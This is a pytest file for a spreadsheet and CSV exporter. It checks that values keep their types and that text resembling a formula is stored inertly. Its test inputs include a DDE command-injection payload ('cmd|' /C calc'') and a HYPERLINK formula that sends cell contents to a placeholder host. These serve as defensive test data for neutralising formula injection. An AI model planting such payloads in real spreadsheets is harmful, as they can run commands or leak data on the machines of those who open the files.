"""Tables as files: kinds of values stay kinds, and what somebody wrote is never run."""

import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest
import python_calamine as calamine

from lcsynth.pipeline.exporting import encode, formulas
from lcsynth.pipeline.synthesis import TABLES

FORMULAS = [
    '=HYPERLINK("http://voorbeeld.nl?"&A1,"klik")',
    "+31 is geen goed begin",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tingesprongen",
    "\r\n=1+1",
    "'=1+1",
    "=" * 10_000,
]


def sheet_of(frame, name="themes"):
    return openpyxl.load_workbook(io.BytesIO(encode(frame, name, "xlsx")))[name]


def column_of(frame):
    return [row[0] for row in sheet_of(frame).iter_rows(min_row=2)]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_looks_like_a_formula_is_text_also_when_somebody_edits_it(text):
    content = encode(pd.DataFrame({"text": [text]}), "themes", "xlsx")
    (cell,) = [row[0] for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2)]
    assert cell.data_type == "s"
    assert cell.value.replace("\r\n", "\n").strip() == text.replace("\r\n", "\n").strip()
    assert bool(cell.quotePrefix) == text.startswith(("=", "+", "-", "@", "\t", "\r"))
    # Another reader agrees that there is no formula in it.
    (value,) = [
        row[0] for row in calamine.load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python()[1:]
    ]
    assert value.strip() == cell.value.strip()


def test_numbers_true_and_false_moments_and_what_is_absent_keep_their_kinds():
    frame = pd.DataFrame(
        {
            "count": [3, 4],
            "share": [0.25, float("nan")],
            "content": [True, False],
            "said_at": ["2022-05-17T15:02:10", "2022-05-17"],
            "text": ["2022-05-17", "00123"],
        }
    )
    rows = [[cell.value for cell in row] for row in sheet_of(frame).iter_rows(min_row=2)]
    assert rows == [
        [3, 0.25, True, dt.datetime(2022, 5, 17, 15, 2, 10), "2022-05-17"],
        [4, None, False, dt.datetime(2022, 5, 17), "00123"],
    ]


@pytest.mark.parametrize("text", ["15:02", "2022-05-17T15:02:10+02:00", "2022-13-45", "gisteren", ""])
def test_a_moment_that_is_not_whole_stays_the_text_it_is(text):
    (cell,) = column_of(pd.DataFrame({"said_at": [text]}))
    assert (cell.value or "") == text


def test_the_heading_stays_in_sight_and_columns_are_as_wide_as_they_need_to_be():
    sheet = sheet_of(pd.DataFrame({"id": ["a"], "text": ["woord " * 100]}))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B2"
    assert [sheet.column_dimensions[letter].width for letter in "AB"] == [8, 60]
    assert sheet["A1"].font.bold


def test_what_no_cell_can_hold_is_left_out_and_what_reads_as_a_code_is_not_changed():
    cells = column_of(pd.DataFrame({"text": ["a\x00b\x1fc\ufffed", "_x0041_ en _x000D_"]}))
    assert cells[0].value == "abcd"
    assert cells[1].value == "_x005F_x0041_ en _x005F_x000D_"  # as Excel writes it, and reads it back


@pytest.mark.parametrize("table", TABLES)
def test_every_sample_table_goes_into_a_sheet_with_its_numbers_as_numbers(samples, table):
    import lcsynth

    frame = getattr(lcsynth.synthesise(samples), table)
    sheet = sheet_of(frame, table)
    assert sheet.max_row == len(frame) + 1
    for column, cells in zip(frame.columns, sheet.iter_cols(min_row=2), strict=True):
        numbers = frame[column].dtype != "str"
        kinds = {type(cell.value) for cell in cells} - {type(None)}
        wanted = {bool} if frame[column].dtype == "bool" else {int, float} if numbers else {str, dt.datetime}
        assert kinds <= wanted, column


def test_a_csv_keeps_what_was_said_and_tells_how_many_texts_look_like_formulas():
    frame = pd.DataFrame({"text": [*FORMULAS, "gewoon"], "n": -1}).astype({"text": "str"})
    content = encode(frame, "themes", "csv")
    assert formulas(content) == 7
    assert formulas(encode(frame.tail(1), "themes", "csv")) == 0
    back = pd.read_csv(io.BytesIO(content), keep_default_na=False)
    assert back["text"].str.replace("\r\n", "\n").tolist() == frame["text"].str.replace("\r\n", "\n").tolist()
